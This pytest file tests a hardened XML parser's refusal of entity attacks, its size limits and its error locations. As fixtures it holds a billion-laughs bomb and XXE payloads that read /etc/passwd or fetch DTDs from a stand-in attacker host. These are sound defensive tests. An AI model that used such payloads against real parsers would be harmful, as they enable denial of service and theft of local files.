"""The hardened XML parser refuses entity attacks and oversize input, and locates syntax errors."""

from __future__ import annotations

import time

import pytest

from edsconv.xml.safe import MAX_XML_BYTES, UnsafeXmlError, XmlSyntaxError, XmlTooLargeError, parse_xml, read_xml

LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY lol0 "lol">{LAUGHS}]><r a="&lol9;">&lol9;</r>'


@pytest.mark.parametrize("document", [
    BILLION_LAUGHS,
    '<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]><r>&secret;</r>',
    '<!DOCTYPE r [<!ENTITY page SYSTEM "http://attacker.invalid/x">]><r>&page;</r>',
    '<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://attacker.invalid/x.dtd"> %dtd;]><r/>',
], ids=["billion-laughs", "xxe-file", "xxe-http", "xxe-parameter-entity"])
def test_entity_declarations_are_refused_without_expansion(document):
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError, match="DOCTYPE declares entities") as refused:
        parse_xml(document.encode())
    assert time.perf_counter() - started < 0.5
    assert refused.value.line == 1 and refused.value.column > 1


def test_entity_declarations_are_refused_in_utf16_too():
    document = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    with pytest.raises(UnsafeXmlError) as refused:
        parse_xml(document.encode("utf-16"))
    assert refused.value.line == 2


def test_a_doctype_without_entities_is_parsed_without_loading_it():
    document = parse_xml(b'<!DOCTYPE r SYSTEM "http://attacker.invalid/r.dtd"><r>ok</r>')
    assert document.tree.getroot().text == "ok"


def test_oversize_input_is_refused_before_parsing(tmp_path):
    with pytest.raises(XmlTooLargeError, match="larger than 10 bytes"):
        parse_xml(b"<r>0123456789</r>", max_bytes=10)
    big = tmp_path / "big.xml"
    big.write_bytes(b"<r>" + b" " * 64 + b"</r>")
    with pytest.raises(XmlTooLargeError):
        read_xml(big, max_bytes=32)
    assert MAX_XML_BYTES == 64 * 1024 * 1024


def test_syntax_errors_carry_line_and_column_without_repeating_them():
    with pytest.raises(XmlSyntaxError) as broken:
        parse_xml(b"<r>\n  <a>\n</r>")
    assert (broken.value.line, broken.value.column) == (3, 5)
    assert broken.value.message.startswith("not well-formed: Opening and ending tag mismatch")
    assert "line 3" not in broken.value.message


def test_element_positions_point_at_the_start_tag():
    document = parse_xml(b'<?xml version="1.0"?>\n<r>\n  <a\n     b="1">x</a>\n</r>')
    a = document.tree.getroot()[0]
    assert document.position(a) == (3, 3)
